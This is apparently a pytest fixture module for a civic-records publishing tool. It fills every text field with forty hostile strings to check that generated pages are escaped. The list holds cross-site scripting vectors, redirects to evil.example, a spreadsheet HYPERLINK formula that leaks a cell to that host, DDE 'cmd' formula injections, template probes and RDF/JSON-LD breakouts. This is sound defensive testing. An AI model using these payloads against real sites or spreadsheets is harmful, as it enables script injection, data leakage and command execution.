"""Forty hostile texts, and a publication that says them in every text field: one a sitting, or five at a time.

The tests of each day say five at a time, in one language; REGISTRE_PAYLOADS=all gives each its own sitting.
"""

from __future__ import annotations

import dataclasses
import os
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from enum import Enum
from pathlib import Path
from typing import Any

import pytest

from builders import CONSEIL, ORGANISATIONS, PERSONS, TERRITORIES, TEXT, VALBRUME, Known, of_a_day, record
from registre.config import Config
from registre.graph.iris import Minter
from registre.linking import sittings
from registre.linking.identities import LinkedRecord
from registre.messages import Language
from registre.publication import composing
from registre.publication.publisher import Publisher
from registre.publication.site import QueryCard
from registre.records import Evidence, Record

PAYLOADS = (
    # elements, attributes and scripts
    "<script>window.PWNED=1</script>",
    "</script><script>window.PWNED=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=window.PWNED=1>',
    "'><svg onload=window.PWNED=1>",
    '" onmouseover="window.PWNED=1',
    "' autofocus onfocus='window.PWNED=1",
    "x onclick=window.PWNED=1 ",
    "<!--",
    "--><h1>PWNED</h1>",
    "]]><b>PWNED</b>",
    "</title><h1>PWNED</h1>",
    "</style><style>body{display:none}</style>",
    "</textarea><input autofocus onfocus=window.PWNED=1>",
    '<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button>PWNED</button></form>',
    "<math><mtext><table><mglyph><style><img src onerror=window.PWNED=1>",
    "</div></main></body></html><h1>PWNED</h1>",
    '<a href="javascript:window.PWNED=1">PWNED</a>',
    "&lt;script&gt;window.PWNED=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.PWNED=1&#62;",
    "<ſcript>window.PWNED=1</ſcript>",
    "＜script＞window.PWNED=1＜/script＞",
    # templates and addresses
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:window.PWNED=1//",
    "data:text/html,<script>window.PWNED=1</script>",
    "//evil.example/%22%3E%3Cscript%3E",
    # cells of a spreadsheet
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '","=1+1',
    # literals and structures
    '" . <https://evil.example/s> <https://evil.example/p> "',
    '"""^^<https://evil.example/t> ; \\u0022 \\',
    '"}],"@id":"https://evil.example/","x":[{"@value":"',
    "' OR '1'='1' } ; DROP ALL # \u202egro.live\u2028",
)
KEPT = {"key", "siren", "slug", "kind", "scheme", "territory", "parent", "code", "body", "organ", "sha256", "rule"}
"""Fields that stand in IRIs: the minter refuses anything unsafe in them, which its own tests show."""
ALL = os.environ.get("REGISTRE_PAYLOADS") == "all"
SAID = PAYLOADS if ALL else tuple(" ".join(PAYLOADS[start::8]) for start in range(8))
"""What a sitting says: those that begin a cell of a spreadsheet stand in `tests/test_payloads.py` alone too."""
_FIRST = sorted({one[0] for one in SAID})
HARMLESS = tuple(
    f"{chr(ord('a') + _FIRST.index(one[0]))}{number:02}{'q' * (len(one) - 3)}" for number, one in enumerate(SAID)
)
"""As many texts, as long, alike at their first letter where those are (pages group by it), that harm nobody."""
CODES = {"media_type", "roles", "method", "accepted_by", "matter", "nature"}


def hostile(value: Any, payload: str) -> Any:
    """`value` with the payload before each of its texts; fields of IRIs, closed sets and places apart."""
    if isinstance(value, Enum | date | bool | int | Evidence) or value is None:
        return value
    if isinstance(value, str):
        return payload + value
    if isinstance(value, tuple):
        return tuple(hostile(one, payload) for one in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        named = {field.name: getattr(value, field.name) for field in dataclasses.fields(value)}
        kept = KEPT | CODES
        return dataclasses.replace(
            value,
            **{
                name: one if name in kept and isinstance(one, str | tuple) else hostile(one, payload)
                for name, one in named.items()
            },
        )
    return value


def quoting(value: Any, evidence: Evidence) -> Any:
    """`value` with every quote at the place of `evidence`."""
    if isinstance(value, Evidence):
        return dataclasses.replace(evidence, rule=value.rule)
    if isinstance(value, tuple):
        return tuple(quoting(one, evidence) for one in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        named = {field.name: getattr(value, field.name) for field in dataclasses.fields(value)}
        return dataclasses.replace(value, **{name: quoting(one, evidence) for name, one in named.items()})
    return value


def hostile_record(number: int, payload: str) -> Record:
    """The invented record of sitting `number`: the payload in its text, its quotes and every value read from it."""
    clean = record(f"{number:02}.txt", f"{TEXT}{payload}\n")
    changes = {name: hostile(getattr(clean, name), payload) for name in ("session", "acts", "diagnostics")}
    source = dataclasses.replace(hostile(clean.source, payload), sha256=f"{number:016x}" * 4)
    whole = dataclasses.replace(clean, **changes, source=source)
    quoted: Record = quoting(whole, Evidence(len(TEXT), len(TEXT) + len(payload), payload, "test.words"))
    return quoted


def hostile_identities(number: int, payload: str) -> Known:
    """The invented identities under addresses of their own, with the payload in their names."""
    key, code = f"2199{number:05}", f"99{number:03}"

    def moved(one: Any, **changes: Any) -> Any:
        return dataclasses.replace(hostile(one, payload), **changes)

    return Known(
        (moved(VALBRUME, key=key, siren=key, territory=("commune", code)),),
        (moved(CONSEIL, body=key),),
        tuple(moved(one, body=key) for one in PERSONS),
        tuple(moved(one, scheme="local", key=f"{number:04x}{n:04x}") for n, one in enumerate(ORGANISATIONS)),
        (moved(TERRITORIES[0], code=code),),
    )


def hostile_meeting(number: int, payload: str, known: Known) -> tuple[LinkedRecord]:
    """The only document of a meeting."""
    (body,), (organ,) = known.bodies, known.organs
    persons = {spelling: one for one in known.persons for spelling in one.spellings}
    organisations = {spelling: one for one in known.organisations for spelling in one.spellings}
    return (LinkedRecord(body, organ, persons, organisations, hostile_record(number, payload)),)


def write_publication(folder: Path, payloads: tuple[str, ...]) -> None:
    """A whole publication below `folder`: dumps, tables, feeds, reports, site; one sitting of each payload."""
    each = [hostile_identities(number, payload) for number, payload in enumerate(payloads)]
    known = Known(
        tuple(one for known in each for one in known.bodies),
        tuple(one for known in each for one in known.organs),
        tuple(one for known in each for one in known.persons),
        tuple(one for known in each for one in known.organisations),
        (*(one for known in each for one in known.territories), TERRITORIES[1]),
    )
    joined = " ".join(payloads)
    config = Config(title=joined, publisher=joined, languages="fr en" if ALL else "fr")
    rules = tuple((f"test.rule-{number}", payload) for number, payload in enumerate(payloads))
    cards = [card(number, payload) for number, payload in enumerate(payloads)]
    folder.mkdir(parents=True)
    identities: Any = known
    parts = (config, Minter(config.base), identities, (("test.words", "x"), *rules), cards)
    with said_as_it_is(), Publisher(folder, *parts) as publisher:
        meetings = (hostile_meeting(number, payload, each[number]) for number, payload in enumerate(payloads))
        publisher.add_all(map(of_a_day, meetings))
        publisher.finish()


@contextmanager
def said_as_it_is() -> Iterator[None]:
    """Nothing is masked, and every act has the same last part of its address: pages of two payloads are compared."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sittings, "act_slug", lambda _: "2024-001")
        patch.setattr(composing, "publishable", lambda linked: linked)
        yield


@pytest.fixture(scope="session")
def publications(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The folder of the hostile publication, and of the harmless one that has the same pages."""
    folder = tmp_path_factory.mktemp("payloads")
    write_publication(folder / "hostile", SAID)
    write_publication(folder / "harmless", HARMLESS)
    return folder / "hostile", folder / "harmless"


def pages_of(folder: Path) -> Iterator[str]:
    """Every page but those of terms of the ontology, which say nothing that a document says."""
    names = (path.relative_to(folder).as_posix() for path in sorted(folder.rglob("*.html")))
    return (name for name in names if "term/" not in name and not name.endswith("ns.html"))


def card(number: int, payload: str) -> QueryCard:
    """A question whose every word is the payload."""
    both: dict[Language, str] = {"fr": payload, "en": payload}
    parameters = (("a", payload, payload, both),)
    return QueryCard(f"question-{number}", both, both, payload, both, both, parameters, (("a", payload, both),))
